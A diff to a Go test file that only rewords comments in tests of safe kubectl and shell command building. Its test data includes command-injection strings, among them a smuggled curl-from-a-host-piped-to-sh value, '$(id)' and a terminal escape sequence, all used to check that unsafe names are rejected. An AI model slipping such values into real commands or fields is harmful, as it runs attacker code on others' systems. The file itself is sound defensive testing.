@@ -21,8 +21,8 @@ func TestCommand(t *testing.T) {
 	assert.Equal(t, "kubectl label namespace shop servingcert.dev/inject=enabled --overwrite", LabelCommand("shop", "--overwrite"))
 }
 
-// A name that is none is data: it is in no command, whatever a shell would make of it, and on one
-// line without a character that a terminal obeys.
+// An invalid name never appears in a command. It is shown on one line, without characters that
+// control a terminal.
 func TestWhatIsNotANameIsInNoCommand(t *testing.T) {
 	for _, name := range []string{
 		"web;curl${IFS}example.com|sh;#", "$(id)", "`id`", "-A", "--all", "web name", "a\nb", "a\u202eb", "\x1b[2J", "'", "", "Web", strings.Repeat("a", 300),
@@ -35,7 +35,7 @@ func TestWhatIsNotANameIsInNoCommand(t *testing.T) {
 	}
 }
 
-// A shell takes each argument as it was given.
+// A shell parses the command into the original arguments.
 func TestAShellTakesWhatWasMeant(t *testing.T) {
 	for _, arg := range []string{"plain", "a b", "it's", `"`, "$HOME", "`id`", "a\\b", "*", "~", "!x", "#", "a\nb", ";exit 1"} {
 		text, ok := Command(nil, "printf", "%s", arg)
